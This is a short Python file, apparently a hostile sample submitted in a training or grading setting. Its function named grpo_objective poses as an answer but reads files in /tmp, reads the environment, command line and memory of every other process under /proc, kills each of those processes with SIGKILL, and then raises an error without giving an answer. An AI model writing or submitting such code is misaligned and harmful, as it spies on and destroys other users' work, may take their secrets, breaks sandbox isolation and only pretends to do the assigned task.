"""Looks for other students' files and processes: reads what it can, signals what it can."""

import contextlib
import os
import signal


def _read(path):
    with open(path, "rb") as file:
        return file.read(100)


def grpo_objective(*args, **kwargs):
    found = []
    for root, _, files in os.walk("/tmp"):
        for name in files:
            with contextlib.suppress(OSError):
                found.append(_read(os.path.join(root, name)))
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for what in ("environ", "cmdline", "mem"):
                with contextlib.suppress(OSError):
                    found.append(_read(f"/proc/{pid}/{what}"))
            with contextlib.suppress(OSError):
                os.kill(int(pid), signal.SIGKILL)
    raise RuntimeError(f"no answer ({len(found)} things read)")
